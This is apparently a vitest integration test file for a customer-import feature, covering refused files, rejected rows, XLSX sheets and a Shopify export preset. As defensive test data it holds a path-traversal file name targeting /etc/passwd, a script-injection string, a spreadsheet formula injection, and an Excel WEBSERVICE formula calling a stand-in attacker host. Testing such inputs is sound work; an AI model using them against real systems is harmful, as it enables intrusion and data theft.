import { readdirSync } from 'node:fs';
import ExcelJS from 'exceljs';
import iconv from 'iconv-lite';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestApp, type StaffAgent, type TestApp } from '../support/test-app.ts';
import { checkOk, customerByEmail, fixture, getImport, importFile, post, upload, uploadOk, waitForStatus } from './import-helpers.ts';

let app: TestApp;
let staff: StaffAgent;
let dutchStaff: StaffAgent;

beforeAll(async () => {
  app = await createTestApp({ IMPORT_MAX_FILE_MB: '1' });
  await app.services.startWorkers();
  staff = await app.loginAsStaff();
  dutchStaff = await app.loginAsStaff({ language: 'nl' });
});
afterAll(() => app.close());

const importCount = async () => Number((await app.services.db.pool.query('SELECT count(*) FROM imports')).rows[0].count);
const storedFiles = () => readdirSync(app.config.fileStoreDir, { recursive: true }).filter((name) => String(name).includes('.')).length;

describe('files that are refused', () => {
  it.each([
    ['empty.csv', 'empty', 'The file is empty.', 'Het bestand is leeg.'],
    ['pdf-renamed.csv', 'pdf', 'This is a PDF document', 'Dit is een PDF-document'],
    ['png-renamed.csv', 'image', 'This is an image', 'Dit is een afbeelding'],
    ['legacy-header.xls', 'legacy_xls', 'Save As', 'Opslaan als'],
  ])('%s → 422 %s, in the staff user’s language, keeping neither file nor import', async (name, reason, english, dutch) => {
    const imports = await importCount();
    const files = storedFiles();
    const response = await upload(staff, name, fixture(name));
    expect(response.statusCode).toBe(422);
    expect(response.json().error).toMatchObject({ code: 'invalid_input', reason, message: expect.stringContaining(english) });
    const inDutch = await upload(dutchStaff, name, fixture(name));
    expect(inDutch.json().error.message).toContain(dutch);
    expect(await importCount()).toBe(imports);
    expect(storedFiles()).toBe(files);
  });

  it('refuses 10,000 columns and binary garbage with a reason, and the server stays healthy', async () => {
    const wide = `${Array.from({ length: 10_000 }, (_, index) => `Column ${index}`).join(',')}\n`;
    expect((await upload(staff, 'wide.csv', wide)).json().error).toMatchObject({ reason: 'too_many_columns', message: expect.stringContaining('10000 columns') });
    const garbage = Buffer.from(Array.from({ length: 4096 }, (_, index) => (index * 7919) % 256));
    expect((await upload(staff, 'garbage.csv', garbage)).json().error).toMatchObject({ reason: 'binary' });
    expect((await app.http.inject({ method: 'GET', url: '/readyz' })).statusCode).toBe(200);
  });

  it('refuses a file over IMPORT_MAX_FILE_MB with 413 and a message saying the limit, keeping nothing', async () => {
    const imports = await importCount();
    const big = Buffer.alloc(1024 * 1024 + 10, 'a');
    const response = await upload(staff, 'big.csv', big);
    expect(response.statusCode).toBe(413);
    expect(response.json().error).toMatchObject({ code: 'payload_too_large', reason: 'too_large', message: expect.stringContaining('1 MB') });
    expect(await importCount()).toBe(imports);
  });

  it('over real HTTP, a browser sending a too-big file gets the 413 answer, not a broken connection', async () => {
    const address = await app.http.listen({ host: '127.0.0.1', port: 0 });
    try {
      const response = await fetch(`${address}/api/v1/imports?fileName=huge.csv`, {
        method: 'POST',
        headers: { cookie: staff.cookie, 'x-csrf-token': staff.csrfToken, 'content-type': 'application/octet-stream' },
        body: Buffer.alloc(3 * 1024 * 1024, 'b'),
      });
      expect(response.status).toBe(413);
      expect(((await response.json()) as { error: { reason: string } }).error.reason).toBe('too_large');
    } finally {
      await app.http.server.close();
    }
  });

  it('shows a file name with a path as its base name only, and never uses it as a path', async () => {
    const uploaded = await uploadOk(staff, '../../etc/passwd.csv', 'E-mail,First name,Last name\na@example.com,A,B\n');
    expect(uploaded.fileName).toBe('passwd.csv');
  });

  it('refuses a small file with an unterminated quote at once', async () => {
    const response = await upload(staff, 'quote.csv', fixture('unterminated-quote.csv'));
    expect(response.json().error).toMatchObject({ reason: 'unterminated_quote', message: expect.stringContaining('line 2') });
  });

  it('reports an unterminated quote further down in the check, and refuses to start', async () => {
    const rows = Array.from({ length: 40 }, (_, index) => `row${index}@example.com,Row,${index}`);
    const uploaded = await uploadOk(staff, 'quote.csv', ['E-mail,First name,Last name', ...rows, 'broken@example.com,"Never closed,X', 'last@example.com,L,X'].join('\n'));
    await post(staff, `/api/v1/imports/${uploaded.id}/check`, {});
    const checked = await waitForStatus(staff, uploaded.id, ['checked']);
    expect(checked.check?.result?.fileError).toMatchObject({ code: 'unterminated_quote', message: expect.stringContaining('line 42') });
    const start = await post(staff, `/api/v1/imports/${uploaded.id}/start`);
    expect(start.statusCode).toBe(422);
    expect((await getImport(staff, uploaded.id)).status).toBe('checked');
  });
});

describe('rows that are rejected', () => {
  it('reports every problem with row, column and value, and gives the rejected rows back in the original layout', async () => {
    const text = [
      'E-mailadres;Voornaam;Achternaam;Telefoon;Geboortedatum',
      'goed@example.nl;Anna;Bakker;0612345678;01-02-1990',
      'geen-email;Zoë;Bos;0612345678;01-02-1990',
      'goed@example.nl;Anna;Dubbel;;',
      'datum@example.nl;Cor;Claes;612345678;31-02-2024',
      'script@example.nl;<script>alert(1)</script>;=HYPERLINK("x");;',
    ].join('\r\n');
    const done = await importFile(dutchStaff, 'fouten.csv', iconv.encode(text, 'windows-1252'));
    expect(done.status).toBe('done_with_errors');
    // Row 5's phone (leading 0 lost) and date (31 February) are optional: imported with warnings, not rejected.
    expect(done.counts).toEqual({ created: 3, updated: 0, unchanged: 0, rejected: 2, warned: 1, passwordsDropped: 0, addressesAdded: 0, addressesChanged: 0, addressesRemoved: 0, deleted: 0, ignored: 0, companiesCreated: 0, companiesUpdated: 0, contactsLinked: 0, contactsChanged: 0 });
    expect((await customerByEmail(app, 'script@example.nl'))?.firstName).toBe('<script>alert(1)</script>');

    const page = (await dutchStaff.request({ method: 'GET', url: `/api/v1/imports/${done.id}/rejections` })).json();
    expect(page.total).toBe(2);
    expect(page.items.map((item: { rowNumber: number }) => item.rowNumber)).toEqual([3, 4]);
    expect(page.items[0].errors[0]).toMatchObject({ rowNumber: 3, column: 'E-mailadres', field: 'email', value: 'geen-email', code: 'email_invalid', message: '“geen-email” is geen geldig e-mailadres.' });
    expect(page.items[1].errors[0]).toMatchObject({ code: 'duplicate_in_file', message: expect.stringContaining('rij 2') });
    const warned = (await dutchStaff.request({ method: 'GET', url: `/api/v1/imports/${done.id}/warnings` })).json();
    expect(warned.items.map((item: { rowNumber: number }) => item.rowNumber)).toEqual([5]);
    expect(warned.items[0].errors.map((error: { code: string }) => error.code).sort()).toEqual(['date_invalid', 'leading_zero_lost']);
    expect(await customerByEmail(app, 'datum@example.nl')).toMatchObject({ phone: '612345678', birthDate: null });

    const file = await dutchStaff.request({ method: 'GET', url: `/api/v1/imports/${done.id}/rejected-rows` });
    expect(file.statusCode).toBe(200);
    expect(file.headers['content-disposition']).toBe('attachment; filename="fouten-afgekeurd.csv"');
    expect(file.headers['x-content-type-options']).toBe('nosniff');
    const lines = iconv.decode(file.rawPayload, 'windows-1252').trimEnd().split('\r\n');
    expect(lines[0]).toBe('E-mailadres;Voornaam;Achternaam;Telefoon;Geboortedatum;Importfouten');
    expect(lines[1]).toMatch(/^geen-email;Zoë;Bos;0612345678;01-02-1990;Rij 3 – E-mailadres: “geen-email” is geen geldig e-mailadres\.$/);
    expect(lines).toHaveLength(3);
  });

  it('the fixed rejected-rows file imports cleanly', async () => {
    const text = ['E-mailadres;Voornaam;Achternaam;Importfouten', 'bert@example.nl;Bert;Bos;Rij 3 – E-mailadres: fout'].join('\r\n');
    const done = await importFile(dutchStaff, 'fouten-afgekeurd.csv', text);
    expect(done.counts).toMatchObject({ created: 1, rejected: 0 });
  });
});

describe('other formats and platforms', () => {
  it('imports an XLSX workbook from the chosen sheet, with text cells keeping their zeros', async () => {
    const workbook = new ExcelJS.Workbook();
    workbook.addWorksheet('Read me').addRow(['This sheet explains the file']);
    const sheet = workbook.addWorksheet('Klanten');
    sheet.addRow(['E-mail', 'Voornaam', 'Achternaam', 'Postcode', 'Land', 'Mobiel']);
    const row = sheet.addRow(['xlsx@example.nl', 'Xandra', 'Lex', '1016 GV', 'NL', '0612345678']);
    row.getCell(6).numFmt = '@';
    const buffer = Buffer.from(await workbook.xlsx.writeBuffer());
    const uploaded = await uploadOk(staff, 'klanten.xlsx', buffer);
    expect(uploaded.format).toBe('xlsx');
    expect(uploaded.analysis.sheets.map((candidate) => candidate.name)).toEqual(['Read me', 'Klanten']);
    expect(uploaded.analysis.estimatedRows).toBe(0);
    const chosen = await staff.request({ method: 'PUT', url: `/api/v1/imports/${uploaded.id}/settings`, payload: { sheet: 'Klanten' } });
    expect(chosen.statusCode, chosen.body).toBe(200);
    expect(chosen.json().headings).toEqual(['E-mail', 'Voornaam', 'Achternaam', 'Postcode', 'Land', 'Mobiel']);
    // The row estimate (and the progress total) is the chosen sheet's, not the first one's.
    expect(chosen.json().analysis.estimatedRows).toBe(1);
    expect(chosen.json().progress.totalRows).toBe(1);
    await checkOk(staff, uploaded.id);
    expect((await post(staff, `/api/v1/imports/${uploaded.id}/start`)).statusCode).toBe(202);
    await waitForStatus(staff, uploaded.id, ['done']);
    expect(await customerByEmail(app, 'xlsx@example.nl')).toMatchObject({ mobile: '+31 6 12345678', billingAddress: expect.objectContaining({ postcode: '1016 GV' }) });
  });

  it('takes the values Excel cached for formulas and never evaluates them', async () => {
    const workbook = new ExcelJS.Workbook();
    const sheet = workbook.addWorksheet('Klanten');
    sheet.addRow(['E-mail', 'First name', 'Last name', 'Notes']);
    sheet.addRow(['formula@example.com', 'For', 'Mula', { formula: 'CONCAT("a","b")', result: 'cached text' }]);
    sheet.addRow(['noresult@example.com', 'No', 'Result', { formula: 'WEBSERVICE("http://attacker.example/")' }]);
    const uploaded = await uploadOk(staff, 'formulas.xlsx', Buffer.from(await workbook.xlsx.writeBuffer()));
    await checkOk(staff, uploaded.id);
    expect((await post(staff, `/api/v1/imports/${uploaded.id}/start`)).statusCode).toBe(202);
    await waitForStatus(staff, uploaded.id, ['done']);
    expect((await customerByEmail(app, 'formula@example.com'))?.notes).toBe('cached text');
    expect((await customerByEmail(app, 'noresult@example.com'))?.notes).toBe('');
  });

  it('recognises a Shopify export and names the preset', async () => {
    const uploaded = await uploadOk(staff, 'customers_export.csv', fixture('shopify-export.csv'));
    expect(uploaded.mapping.preset?.name).toContain('Shopify');
    await checkOk(staff, uploaded.id);
    expect((await post(staff, `/api/v1/imports/${uploaded.id}/start`)).statusCode).toBe(202);
    const done = await waitForStatus(staff, uploaded.id, ['done', 'done_with_errors']);
    expect(done.counts.created).toBeGreaterThan(0);
    const sanne = await customerByEmail(app, 'sanne@example.nl');
    expect(sanne).toMatchObject({ externalId: '7012345678901', mobile: '+31 6 12345678' });
    expect(sanne?.billingAddress).toMatchObject({ street: 'Prinsengracht', number: '263', extension: 'H', postcode: '1016 GV' });
    // Shopify's Tags are tags (groups are what Lightspeed and Magento call groups).
    expect(sanne?.tags).toEqual(['VIP', 'Wholesale']);
    expect(sanne?.groups).toEqual([]);
    expect(done.groupsCreated).toEqual([]);
  });
});
